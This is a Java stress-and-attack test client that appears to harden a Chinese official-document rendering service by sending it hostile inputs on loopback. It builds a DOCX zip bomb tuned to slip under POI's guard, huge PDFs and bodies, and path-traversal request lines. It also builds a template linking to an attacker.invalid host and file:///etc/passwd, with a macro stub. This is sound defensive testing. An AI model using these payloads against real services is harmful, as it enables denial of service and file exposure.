package org.gongwen.hardening;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

/**
 * The client of {@code bench/attack.sh}: everything issue 12 found, thrown at a running service in one
 * run (hostile titles, PDFs, DOCX packages, bodies, templates, requests), then the service must still
 * render the zijin sample in under a second, report no render running, and have answered no attack
 * with a 5xx or not at all. Loopback only; every request has a time limit.
 *
 * <p>Arguments: port, admin token, the zijin sample (.txt), the server's log file; or
 * {@code --bad-template FILE}, which writes a template with a line pitch of 0 for the script to put
 * in the templates folder before the service starts.
 */
public final class Attack {
    private static final Duration LIMIT = Duration.ofSeconds(120);
    private static final String JSON = "application/json";

    private final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();
    private final int port;
    private final String token;
    private final List<String> failures = new ArrayList<>();

    private Attack(int port, String token) {
        this.port = port;
        this.token = token;
    }

    public static void main(String[] args) throws Exception {
        // the PDFs built here use a standard font PDFBox substitutes, with a warning each time
        ((ch.qos.logback.classic.Logger) org.slf4j.LoggerFactory.getLogger("org.apache.pdfbox")).setLevel(ch.qos.logback.classic.Level.OFF);
        if (args[0].equals("--bad-template")) {
            Files.write(Path.of(args[1]), zeroLinePitch(Files.readAllBytes(Path.of("templates/report.docx"))));
            return;
        }
        Attack a = new Attack(Integer.parseInt(args[0]), args[1]);
        String zijin = Files.readString(Path.of(args[2]));
        Path log = Path.of(args[3]);
        long logBefore = Files.size(log);
        a.run();
        a.after(zijin, Files.size(log) - logBefore);
        if (!a.failures.isEmpty()) {
            System.out.println("FAIL: " + String.join("; ", a.failures));
            System.exit(1);
        }
        System.out.println("PASS");
    }

    private void run() throws Exception {
        String title150 = "关于进一步加强和改进全区卫生健康系统行政执法监督工作的通知".repeat(6).substring(0, 150);
        // 1: four long titles at once, by each way a title arrives
        parallel("1 long title x4 (JSON, form, Markdown, text)", List.of(
                () -> json("/api/v1/render?format=pdf", "{\"title\":\"" + title150 + "\",\"blocks\":[]}"),
                () -> multipart("/api/v1/render", Map.of("text", "正文。", "title", title150, "format", "pdf"), null, null),
                () -> multipart("/api/v1/render", Map.of("format", "pdf"), "t.md", ("# " + title150 + "\n\n正文。").getBytes(StandardCharsets.UTF_8)),
                () -> multipart("/api/v1/render", Map.of("format", "pdf"), "t.txt", (title150 + "\n\n正文。").getBytes(StandardCharsets.UTF_8))));
        // 2-5: PDFs given to check
        expect("2 self-drawing form PDF", 422, check("self.pdf", RefusedInputs.pdf("self-drawing")));
        expect("3 nested forms PDF", 413, check("nested.pdf", RefusedInputs.pdf("nested")));
        byte[] pages = RefusedInputs.pdf("pages");
        expect("4 PDF of 20,000 pages (" + pages.length / 1024 + " KB)", 413, check("pages.pdf", pages));
        byte[] glyphs = RefusedInputs.pdf("glyphs");
        List<Callable<Integer>> checks = new ArrayList<>();
        for (int i = 0; i < 8; i++) checks.add(() -> check("glyphs.pdf", glyphs));
        parallel("5 eight checks of a PDF of 4 million glyphs (" + glyphs.length / 1024 + " KB)", checks);
        // 6: a package of eight parts of 95 MB each
        byte[] bomb = eightPartBomb();
        expect("6 DOCX of 8 x 95 MB parts (" + bomb.length / (1024 * 1024) + " MB) parse", 413, multipart("/api/v1/parse", Map.of(), "bomb.docx", bomb));
        expect("6 … render", 413, multipart("/api/v1/render", Map.of("format", "docx"), "bomb.docx", bomb));
        expect("6 … check", 413, check("bomb.docx", bomb));
        // 7: bodies of 400 MB, read or not
        expect("7 JSON body of 400 MB", 413, bigBody("POST", "/api/v1/render", JSON, null));
        expect("7 PUT of 400 MB without a token", 413, bigBody("PUT", "/api/v1/templates/x", "application/octet-stream", null));
        // 8-10: documents no writer should be asked to write
        expect("8 JSON title of 400,000 characters", 422, json("/api/v1/render?format=pdf", "{\"title\":\"" + "关".repeat(400_000) + "\",\"blocks\":[]}"));
        expect("9 a note without text", 200, json("/api/v1/render?format=pdf", "{\"title\":\"t\",\"blocks\":[{\"type\":\"note\"}]}"));
        expect("10 600,000 note blocks (9.6 MB) as DOCX", 413, json("/api/v1/render?format=docx",
                "{\"title\":\"t\",\"blocks\":[" + String.join(",", Collections.nCopies(600_000, "{\"type\":\"note\",\"text\":\"注\"}")) + "]}"));
        expect("10 … as many empty notes (dropped, one warning)", 200, json("/api/v1/render?format=docx",
                "{\"title\":\"t\",\"blocks\":[" + String.join(",", Collections.nCopies(600_000, "{\"type\":\"note\"}")) + "]}"));
        // 11-12: templates
        byte[] report = Files.readAllBytes(Path.of("templates/report.docx"));
        expect("11 template with linePitch 0", 422, putTemplate("pitch0", zeroLinePitch(report)));
        expect("12 template with external links, OLE and macros", 422, putTemplate("hostile", hostileTemplate(report)));
        for (String page : List.of("/", "/templates", "/check", "/api/v1/templates")) expect("11 " + page + " with a bad template in the folder", 200, get(page));
        // also
        for (String line : List.of("GET /api/v1/a%2fb HTTP/1.1", "GET /api/v1/a%5cb HTTP/1.1", "GET /api/v1/a%00b HTTP/1.1", "TRACE / HTTP/1.1")) {
            expect("also " + line, line.startsWith("TRACE") ? 405 : 400, raw(line + "\r\nHost: localhost\r\nConnection: close\r\n\r\n"));
        }
        expect("also /error", 404, get("/error"));
        Map<String, String> parts = new LinkedHashMap<>();
        for (int i = 0; i < 60; i++) parts.put("f" + i, "x");
        expect("also 60 form parts", 413, multipart("/api/v1/render", parts, null, null));
        byte[] draft = bytes(send(HttpRequest.newBuilder(uri("/api/v1/render?format=docx")).header("Content-Type", JSON)
                .POST(HttpRequest.BodyPublishers.ofString("{\"title\":\"关于开展安全检查的通知\",\"blocks\":["
                        + "{\"type\":\"paragraph\",\"text\":\"" + "请做好检查。".repeat(400) + "\"}]}"))));
        expect("also a DOCX cut to half its bytes", 400, multipart("/api/v1/render", Map.of("format", "pdf"), "half.docx",
                java.util.Arrays.copyOf(draft, draft.length / 2)));
        int guesses = 0;
        for (int i = 0; i < 50; i++) if (status(send(HttpRequest.newBuilder(uri("/api/v1/templates/none"))
                .header("Authorization", "Bearer guess-" + i).DELETE())) == 429) guesses++;
        System.out.printf("%-62s %s%n", "also 50 token guesses", (50 - guesses) + " tried, " + guesses + " refused 429");
        if (guesses < 40) failures.add("token guessing not slowed down");
    }

    /** The service after the attack: the zijin sample renders in under a second, nothing runs, the log stayed small. */
    private void after(String zijin, long logBytes) throws Exception {
        List<Long> ms = new ArrayList<>();
        for (int i = 0; i < 5; i++) {
            long start = System.nanoTime();
            int status = multipart("/api/v1/render", Map.of("text", zijin, "format", "pdf"), null, null);
            ms.add((System.nanoTime() - start) / 1_000_000);
            if (status != 200) failures.add("zijin answered " + status);
        }
        long best = Collections.min(ms);
        String metrics = new String(bytes(send(HttpRequest.newBuilder(uri("/actuator/prometheus")).GET())), StandardCharsets.UTF_8);
        String running = metrics.lines().filter(l -> l.startsWith("gongwen_renders_running")).findFirst().orElse("?");
        System.out.printf("%nafter: zijin PDF %s ms (first %d); %s; log grew %,d bytes%n", ms, ms.getFirst(), running, logBytes);
        if (ms.getLast() >= 1000) failures.add("zijin took " + ms.getLast() + " ms");
        if (!running.endsWith(" 0.0")) failures.add("renders still running: " + running);
        if (logBytes > 2_000_000) failures.add("the log grew " + logBytes + " bytes");
        if (best < 0) failures.add("clock");
    }

    private void expect(String what, int want, int got) {
        System.out.printf("%-62s %s%n", what, got == want ? got : got + " (expected " + want + ")");
        if (got >= 500 || got < 0) failures.add(what + ": " + got);
    }

    private void parallel(String what, List<Callable<Integer>> requests) throws Exception {
        ExecutorService pool = Executors.newFixedThreadPool(requests.size());
        try {
            List<Integer> statuses = new ArrayList<>();
            for (Future<Integer> f : pool.invokeAll(requests)) statuses.add(f.get());
            System.out.printf("%-62s %s%n", what, statuses);
            // 503 with Retry-After is the right answer beyond capacity
            for (int s : statuses) if ((s >= 500 && s != 503) || s < 0) failures.add(what + ": " + statuses);
        } finally {
            pool.shutdownNow();
        }
    }

    private int json(String path, String body) {
        return status(send(HttpRequest.newBuilder(uri(path)).header("Content-Type", JSON)
                .POST(HttpRequest.BodyPublishers.ofString(body))));
    }

    private int get(String path) {
        return status(send(HttpRequest.newBuilder(uri(path)).GET()));
    }

    private int check(String name, byte[] file) {
        return multipart("/api/v1/check", Map.of(), name, file);
    }

    private int putTemplate(String id, byte[] docx) {
        return status(send(HttpRequest.newBuilder(uri("/api/v1/templates/" + id)).header("Authorization", "Bearer " + token)
                .header("Content-Type", "application/octet-stream").PUT(HttpRequest.BodyPublishers.ofByteArray(docx))));
    }

    private int multipart(String path, Map<String, String> fields, String fileName, byte[] file) {
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        try {
            for (Map.Entry<String, String> f : fields.entrySet()) {
                body.write(("--b0undary\r\nContent-Disposition: form-data; name=\"" + f.getKey() + "\"\r\n\r\n" + f.getValue() + "\r\n")
                        .getBytes(StandardCharsets.UTF_8));
            }
            if (file != null) {
                body.write(("--b0undary\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + fileName
                        + "\"\r\nContent-Type: application/octet-stream\r\n\r\n").getBytes(StandardCharsets.UTF_8));
                body.write(file);
                body.write("\r\n".getBytes(StandardCharsets.UTF_8));
            }
            body.write("--b0undary--\r\n".getBytes(StandardCharsets.UTF_8));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return status(send(HttpRequest.newBuilder(uri(path)).header("Content-Type", "multipart/form-data; boundary=b0undary")
                .POST(HttpRequest.BodyPublishers.ofByteArray(body.toByteArray()))));
    }

    /** 400 MB of body streamed, never held here. */
    private int bigBody(String method, String path, String type, String authorization) {
        long size = 400L * 1024 * 1024;
        HttpRequest.Builder b = HttpRequest.newBuilder(uri(path)).header("Content-Type", type)
                .method(method, HttpRequest.BodyPublishers.fromPublisher(HttpRequest.BodyPublishers.ofInputStream(() -> new InputStream() {
                    long left = size;

                    @Override
                    public int read() {
                        return left-- > 0 ? '[' : -1;
                    }

                    @Override
                    public int read(byte[] buf, int off, int len) {
                        if (left <= 0) return -1;
                        int n = (int) Math.min(len, left);
                        java.util.Arrays.fill(buf, off, off + n, (byte) '[');
                        left -= n;
                        return n;
                    }
                }), size));
        if (authorization != null) b.header("Authorization", authorization);
        return status(send(b));
    }

    private int raw(String request) {
        try (Socket s = new Socket("localhost", port)) {
            s.setSoTimeout((int) LIMIT.toMillis());
            OutputStream out = s.getOutputStream();
            out.write(request.getBytes(StandardCharsets.ISO_8859_1));
            out.flush();
            String line = new String(s.getInputStream().readNBytes(12), StandardCharsets.ISO_8859_1);
            return Integer.parseInt(line.substring(9, 12));
        } catch (IOException | RuntimeException e) {
            return -1;
        }
    }

    /** The answer, or null when there was none (e.g. the server closed while a refused body was still being sent). */
    private HttpResponse<byte[]> send(HttpRequest.Builder request) {
        try {
            return http.send(request.timeout(LIMIT).build(), HttpResponse.BodyHandlers.ofByteArray());
        } catch (IOException e) {
            return null;
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            return null;
        }
    }

    private static int status(HttpResponse<byte[]> r) {
        return r == null ? -1 : r.statusCode();
    }

    private static byte[] bytes(HttpResponse<byte[]> r) {
        return r == null ? new byte[0] : r.body();
    }

    private URI uri(String path) {
        return URI.create("http://127.0.0.1:" + port + path);
    }

    /** Eight parts that unpack to 95 MB each at about 80:1 (under 10 MB in all), under POI's 100:1 zip-bomb guard. */
    static byte[] eightPartBomb() {
        Random random = new Random(5);
        byte[] block = new byte[80 * 1024];
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write(("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                    + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                    + "<Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/word/document.xml\" ContentType=\""
                    + HostileFiles.MAIN_TYPE + "\"/></Types>").getBytes(StandardCharsets.UTF_8));
            zip.putNextEntry(new ZipEntry("_rels/.rels"));
            zip.write(("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                    + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/></Relationships>")
                    .getBytes(StandardCharsets.UTF_8));
            for (int part = 0; part < 8; part++) {
                zip.putNextEntry(new ZipEntry(part == 0 ? "word/document.xml" : "customXml/item" + part + ".xml"));
                zip.write("<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>"
                        .getBytes(StandardCharsets.UTF_8));
                for (int i = 0; i < 95 * 1024 / 80; i++) {
                    java.util.Arrays.fill(block, (byte) 'a');
                    for (int j = 0; j < 320; j++) block[random.nextInt(block.length)] = (byte) ('a' + random.nextInt(26));
                    zip.write(block);
                }
                zip.write("</w:t></w:r></w:p></w:body></w:document>".getBytes(StandardCharsets.UTF_8));
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /** The bundled report template with a docGrid line pitch of 0. */
    static byte[] zeroLinePitch(byte[] template) throws IOException {
        return rewrite(template, Map.of(), (name, xml) -> name.equals("word/document.xml")
                ? xml.replaceAll("w:linePitch=\"\\d+\"", "w:linePitch=\"0\"") : xml);
    }

    /** The bundled report template carrying an external attached template, a UNC image link, an OLE link and macros. */
    static byte[] hostileTemplate(byte[] template) throws IOException {
        String rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
        Map<String, byte[]> extra = new LinkedHashMap<>();
        extra.put("word/_rels/settings.xml.rels", ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rId1\" Type=\"" + rel + "attachedTemplate\" Target=\"http://attacker.invalid/t.dotm\" TargetMode=\"External\"/></Relationships>")
                .getBytes(StandardCharsets.UTF_8));
        extra.put("word/vbaProject.bin", new byte[]{(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0});
        return rewrite(template, extra, (name, xml) -> {
            if (name.equals("word/_rels/document.xml.rels")) {
                return xml.replace("</Relationships>", "<Relationship Id=\"rId90\" Type=\"" + rel + "image\" Target=\"\\\\server\\share\\x.png\" TargetMode=\"External\"/>"
                        + "<Relationship Id=\"rId91\" Type=\"" + rel + "oleObject\" Target=\"file:///etc/passwd\" TargetMode=\"External\"/>"
                        + "<Relationship Id=\"rId92\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/></Relationships>");
            }
            if (name.equals("word/settings.xml")) return xml.replace("</w:settings>", "<w:attachedTemplate r:id=\"rId1\" xmlns:r=\"" + rel.substring(0, rel.length() - 1) + "\"/></w:settings>");
            return xml;
        });
    }

    interface Edit {
        String apply(String name, String xml);
    }

    private static byte[] rewrite(byte[] docx, Map<String, byte[]> extra, Edit edit) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(docx)); ZipOutputStream out = new ZipOutputStream(bytes)) {
            for (ZipEntry e; (e = in.getNextEntry()) != null; ) {
                out.putNextEntry(new ZipEntry(e.getName()));
                out.write(edit.apply(e.getName(), new String(in.readAllBytes(), StandardCharsets.UTF_8)).getBytes(StandardCharsets.UTF_8));
            }
            for (Map.Entry<String, byte[]> x : extra.entrySet()) {
                out.putNextEntry(new ZipEntry(x.getKey()));
                out.write(x.getValue());
            }
        }
        return bytes.toByteArray();
    }
}
